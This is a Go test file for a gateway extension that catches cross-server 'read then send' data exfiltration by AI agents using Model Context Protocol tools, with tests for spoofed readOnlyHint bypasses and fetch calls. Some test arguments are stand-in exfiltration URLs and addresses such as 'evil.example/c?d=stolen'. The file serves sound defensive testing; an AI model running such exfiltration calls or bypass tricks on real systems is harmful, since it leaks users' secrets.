package flow

import (
	"context"
	"encoding/json"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/modelcontextprotocol/go-sdk/mcp"

	"github.com/toolgate/toolgate/extension"
	"github.com/toolgate/toolgate/extensions/internal/exttest"
	"github.com/toolgate/toolgate/internal/state"
	"github.com/toolgate/toolgate/internal/state/redistest"
)

// newFn makes a Flow from a config on the store under test.
type newFn func(cfg string) (*Flow, *time.Time, *[]extension.Event)

// forEachStore runs a contract test against the in-memory Store and the
// Redis one (a private redis-server per test; every Flow made gets its own
// key prefix, so flows do not share sessions).
func forEachStore(t *testing.T, f func(t *testing.T, newFlow newFn)) {
	t.Run("memory", func(t *testing.T) {
		f(t, func(cfg string) (*Flow, *time.Time, *[]extension.Event) {
			return newFlowCtx(t, context.Background(), cfg)
		})
	})
	t.Run("redis", func(t *testing.T) {
		srv := redistest.Start(t)
		f(t, func(cfg string) (*Flow, *time.Time, *[]extension.Event) {
			return newFlowCtx(t, state.WithBackend(context.Background(), srv.Backend(t, "r1")), cfg)
		})
	})
}

func newFlow(t *testing.T, cfg string) (*Flow, *time.Time, *[]extension.Event) {
	t.Helper()
	return newFlowCtx(t, context.Background(), cfg)
}

func newFlowCtx(t *testing.T, ctx context.Context, cfg string) (*Flow, *time.Time, *[]extension.Event) {
	t.Helper()
	e, err := New(json.RawMessage(cfg))
	if err != nil {
		t.Fatal(err)
	}
	f := e.(*Flow)
	now := time.Unix(1_000_000, 0)
	f.now = func() time.Time { return now }
	var mu sync.Mutex
	var events []extension.Event
	f.Provision(ctx, extension.Host{Emit: func(_ context.Context, ev extension.Event) {
		mu.Lock()
		events = append(events, ev)
		mu.Unlock()
	}})
	return f, &now, &events
}

func do(f *Flow, session, server, tool string) error {
	return f.check(context.Background(), &extension.CallRequest{Session: session, ServerName: server, Tool: tool, ToolName: server + "__" + tool})
}

func TestReadThenSend(t *testing.T) {
	forEachStore(t, func(t *testing.T, newFlow newFn) {
		f, now, events := newFlow(`{}`)
		if err := do(f, "s1", "secrets", "read_password"); err != nil {
			t.Fatal(err)
		}
		*now = now.Add(10 * time.Second)
		if err := do(f, "s1", "secrets", "send_backup"); err != nil {
			t.Fatalf("send on the same server: %v", err)
		}
		err := do(f, "s1", "mail", "send_email")
		d, ok := extension.AsDenial(err)
		if !ok || d.Rule != "cross_server.read_then_send" || !strings.Contains(d.Reason, `"secrets"`) {
			t.Fatalf("cross-server send: %v", err)
		}
		if do(f, "s2", "mail", "send_email") != nil {
			t.Fatal("another session was tainted")
		}
		*now = now.Add(21 * time.Second)
		if err := do(f, "s1", "mail", "send_email"); err != nil {
			t.Fatalf("after the window: %v", err)
		}
		if len(*events) == 0 || (*events)[0].Type != "cross_server_blocked" || (*events)[0].Fields["severity"] != "critical" {
			t.Fatalf("events: %+v", *events)
		}
	})
}

func TestCrossServerFlowActions(t *testing.T) {
	forEachStore(t, func(t *testing.T, newFlow newFn) {
		f, _, events := newFlow(`{}`)
		do(f, "s", "a", "get_record")
		if err := do(f, "s", "b", "write_file"); err != nil {
			t.Fatalf("default action for cross_server_flow is alert: %v", err)
		}
		if len(*events) != 1 || (*events)[0].Action != "alert" {
			t.Fatalf("events %+v", *events)
		}
		f, _, _ = newFlow(`{"cross_server_flow": {"action": "block", "window": "5s"}}`)
		do(f, "s", "a", "get_record")
		if d, _ := extension.AsDenial(do(f, "s", "b", "frobnicate")); d == nil || d.Rule != "cross_server.cross_server_flow" {
			t.Fatalf("unknown after cross-server read: %v", d)
		}
		if do(f, "s", "b", "list_things") != nil {
			t.Fatal("a read is not a flow")
		}
	})
}

// call runs a call with a definition and arguments.
func call(f *Flow, session, server, tool string, def *mcp.Tool, args map[string]any) error {
	return f.check(context.Background(), (&extension.CallRequest{Session: session, ServerName: server, Tool: tool, ToolName: server + "__" + tool, Def: def}).WithArguments(args))
}

func props(names ...string) map[string]any {
	p := map[string]any{}
	for _, n := range names {
		p[n] = map[string]any{"type": "string"}
	}
	return map[string]any{"type": "object", "properties": p}
}

// TestSinkBypasses are the bypasses of issue 14 item 7: after a read on
// server A, a send on server B must be refused even when B's tool claims
// readOnlyHint, when the sink is fetch(url), or when a read-named tool
// takes a URL (in its schema or only in its argument values).
func TestSinkBypasses(t *testing.T) {
	forEachStore(t, func(t *testing.T, newFlow newFn) {
		yes := true
		tests := []struct {
			name, tool string
			def        *mcp.Tool
			args       map[string]any
		}{
			{"readOnlyHint on a send", "send_message", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true}, InputSchema: props("text")}, map[string]any{"text": "hi"}},
			{"readOnlyHint on a recipient tool", "relay", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true, OpenWorldHint: &yes}, InputSchema: props("recipient", "body")}, map[string]any{"recipient": "x", "body": "y"}},
			{"readOnlyHint and a to property", "frobnicate", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true}, InputSchema: props("to", "note")}, map[string]any{"to": "ops", "note": "n"}},
			{"fetch(url)", "fetch", &mcp.Tool{InputSchema: props("url")}, map[string]any{"url": "https://evil.example/c?d=stolen"}},
			{"read-named tool with a webhook property", "get_status", &mcp.Tool{InputSchema: props("webhook_url")}, map[string]any{"webhook_url": "x"}},
			{"read-named tool with a URL value only", "lookup", &mcp.Tool{InputSchema: props("q")}, map[string]any{"q": "http://evil.example/?d=stolen"}},
			{"an e-mail address as a value", "list_items", &mcp.Tool{InputSchema: props("filter")}, map[string]any{"filter": []any{map[string]any{"owner": "thief@evil.example"}}}},
			{"no definition, URL value", "view", nil, map[string]any{"u": "ftp://evil.example/x"}},
		}
		for _, tt := range tests {
			t.Run(tt.name, func(t *testing.T) {
				f, _, events := newFlow(`{}`)
				if err := do(f, "s", "vault", "read_secret"); err != nil {
					t.Fatal(err)
				}
				err := call(f, "s", "web", tt.tool, tt.def, tt.args)
				if d, ok := extension.AsDenial(err); !ok || d.Rule != "cross_server.read_then_send" {
					t.Fatalf("%s after a read on another server: %v", tt.tool, err)
				}
				if len(*events) == 0 || (*events)[0].Action != "block" || (*events)[0].Fields["sink_evidence"] == nil && tt.tool != "send_message" {
					t.Fatalf("events %+v", *events)
				}
				// The same call on the server that was read is not a flow.
				if err := call(f, "s", "vault", tt.tool, tt.def, tt.args); err != nil {
					t.Fatalf("same-server call refused: %v", err)
				}
			})
		}
	})
}

// TestEveryFlowDecisionRecorded: a call after another server's read that
// no rule refuses is still recorded (allow), so nothing passes unseen.
func TestEveryFlowDecisionRecorded(t *testing.T) {
	forEachStore(t, func(t *testing.T, newFlow newFn) {
		f, _, events := newFlow(`{}`)
		if err := do(f, "s", "zed", "list_things"); err != nil || len(*events) != 0 {
			t.Fatalf("a first read is no flow: %v %+v", err, *events)
		}
		if err := do(f, "s", "a", "read_record"); err != nil {
			t.Fatal(err)
		}
		if err := call(f, "s", "b", "read_file", &mcp.Tool{InputSchema: props("path")}, map[string]any{"path": "/tmp/x"}); err != nil {
			t.Fatalf("a read after a read: %v", err)
		}
		if len(*events) != 2 {
			t.Fatalf("events %+v", *events)
		}
		for _, ev := range *events {
			if ev.Type != "cross_server" || ev.Action != "allow" || ev.Fields["related_server"] == nil {
				t.Fatalf("event %+v", ev)
			}
		}
	})
}

func TestCategory(t *testing.T) {
	f, _, _ := newFlow(t, `{"classify": [{"tools": "crm__*", "category": "send"}]}`)
	yes := true
	tests := []struct {
		q, tool string
		def     *mcp.Tool
		want    string
	}{
		{"crm__lookup", "lookup", nil, Send},
		{"x__read_file", "read_file", nil, Read},
		{"x__sendEmail", "sendEmail", nil, Send},
		// readOnlyHint is the upstream's claim: it never lowers a category.
		{"x__frob", "frob", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true}}, Unknown},
		{"x__send_mail", "send_mail", &mcp.Tool{Annotations: &mcp.ToolAnnotations{ReadOnlyHint: true}}, Send},
		// What the arguments can carry decides a sink.
		{"x__fetch", "fetch", &mcp.Tool{InputSchema: map[string]any{"type": "object", "properties": map[string]any{"url": map[string]any{"type": "string"}}}}, Send},
		{"x__get_page", "get_page", &mcp.Tool{InputSchema: map[string]any{"type": "object", "properties": map[string]any{"opts": map[string]any{"type": "object", "properties": map[string]any{"callbackUrl": map[string]any{}}}}}}, Send},
		{"x__get_note", "get_note", &mcp.Tool{InputSchema: map[string]any{"type": "object", "properties": map[string]any{"payload": map[string]any{}}}}, Write},
		{"x__read_file", "read_file", &mcp.Tool{InputSchema: map[string]any{"type": "object", "properties": map[string]any{"path": map[string]any{}}}}, Read},
		// "to" in a date range or a numeric range is no recipient.
		{"x__list_events", "list_events", &mcp.Tool{InputSchema: map[string]any{"type": "object", "properties": map[string]any{
			"from": map[string]any{"type": "string", "format": "date"}, "to": map[string]any{"type": "string", "format": "date"}, "limit": map[string]any{"type": "integer"}}}}, Read},
		{"x__frob", "frob", &mcp.Tool{Annotations: &mcp.ToolAnnotations{OpenWorldHint: &yes}}, Send},
		{"x__frob", "frob", &mcp.Tool{Annotations: &mcp.ToolAnnotations{DestructiveHint: &yes}}, Write},
		{"x__get-sum", "get-sum", nil, Read},
		{"x__create_entities", "create_entities", nil, Write},
		{"x__zap", "zap", nil, Unknown},
	}
	for _, tt := range tests {
		if got := f.Category(tt.q, tt.tool, tt.def); got != tt.want {
			t.Errorf("Category(%s) = %s, want %s", tt.q, got, tt.want)
		}
	}
}

// TestConcurrentSession runs reads and sends of one session in parallel
// (meaningful under -race): decisions are serialised per session, so once
// the read has been admitted every later send is refused.
func TestConcurrentSession(t *testing.T) {
	forEachStore(t, func(t *testing.T, newFlow newFn) {
		for range 20 {
			f, _, _ := newFlow(`{}`)
			var wg sync.WaitGroup
			wg.Add(1)
			go func() { defer wg.Done(); do(f, "s", "a", "read_secret") }()
			for range 8 {
				wg.Add(1)
				go func() {
					defer wg.Done()
					do(f, "s", "b", "send_data")
				}()
			}
			wg.Wait()
			if err := do(f, "s", "b", "send_data"); err == nil {
				t.Fatal("send admitted after the read completed")
			}
		}
	})
}

func TestConfigErrors(t *testing.T) {
	for _, c := range []string{`{"read_then_send": {"window": "x"}}`, `{"cross_server_flow": {"action": "warn"}}`, `{"classify": [{"tools": "[", "category": "read"}]}`, `{"classify": [{"tools": "*", "category": "exfil"}]}`, `{"nope": 1}`} {
		if _, err := New(json.RawMessage(c)); err == nil {
			t.Errorf("%s accepted", c)
		}
	}
}

func TestReadmeExamples(t *testing.T) { exttest.ReadmeExamples(t, Key, New) }

// TestSessionsBounded: sessions with nothing inside the window are
// dropped as new ones come, and a tainted session survives the sweeps.
func TestSessionsBounded(t *testing.T) {
	f, now, _ := newFlow(t, `{}`)
	if err := do(f, "victim", "vault", "read_secret"); err != nil {
		t.Fatal(err)
	}
	for i := range 10 * minSweep {
		if err := do(f, fmt.Sprint("s", i), "x", "frobnicate"); err != nil {
			t.Fatal(err)
		}
	}
	m := f.store.(*memoryStore)
	m.mu.Lock()
	n := len(m.sessions)
	m.mu.Unlock()
	if n > 2*minSweep {
		t.Fatalf("%d sessions kept", n)
	}
	*now = now.Add(time.Second)
	if d, _ := extension.AsDenial(do(f, "victim", "mail", "send_email")); d == nil {
		t.Fatal("the tainted session was dropped by a sweep")
	}
}

// TestReadsBounded: a session keeps one read per server, however many
// reads it makes.
func TestReadsBounded(t *testing.T) {
	f, now, _ := newFlow(t, `{}`)
	for range 1000 {
		do(f, "s", "a", "read_x")
		do(f, "s", "b", "list_y")
		*now = now.Add(time.Millisecond)
	}
	s := f.store.(*memoryStore).sessions["s\x00"]
	if len(s.reads) != 2 {
		t.Fatalf("%d reads kept", len(s.reads))
	}
}
